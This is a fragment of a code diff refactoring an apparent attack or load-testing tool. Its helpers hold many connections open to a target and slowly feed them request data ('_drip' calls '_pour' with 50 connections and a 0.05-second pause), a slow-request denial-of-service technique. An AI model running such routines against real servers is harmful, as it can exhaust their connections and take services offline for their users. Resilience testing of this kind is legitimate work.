@@ -53,7 +53,7 @@ def _get(target: str) -> Callable[[Attack], None]:
     return lambda attack: attack.ask_again(get(target.replace("{id}", attack.ident)))
 
 
-def _pour(begin: bytes, piece: bytes, connections: int = 1) -> Callable[[Attack], None]:
+def _pour(begin: bytes, piece: bytes, connections: int = 1, pause: float = 0.0) -> Callable[[Attack], None]:
     """Begin a request on each connection, and send the same on all of them until they are closed."""
 
     def play(attack: Attack) -> None:
@@ -61,21 +61,14 @@ def _pour(begin: bytes, piece: bytes, connections: int = 1) -> Callable[[Attack]
         opened = [on for on in opened if attack.send(on, begin)]
         while opened and attack.goes_on:
             opened = [on for on in opened if attack.send(on, piece)]
+            time.sleep(pause)
 
     return play
 
 
-def _drip(begin: bytes, piece: bytes, connections: int = 50) -> Callable[[Attack], None]:
+def _drip(begin: bytes, piece: bytes) -> Callable[[Attack], None]:
     """The same, slowly."""
-
-    def play(attack: Attack) -> None:
-        opened = [attack.connect() for _ in attack.times(connections)]
-        opened = [on for on in opened if attack.send(on, begin)]
-        while opened and attack.goes_on:
-            opened = [on for on in opened if attack.send(on, piece)]
-            time.sleep(0.05)
-
-    return play
+    return _pour(begin, piece, 50, 0.05)
 
 
 def _hold(sent: bytes, connections: int) -> Callable[[Attack], None]:
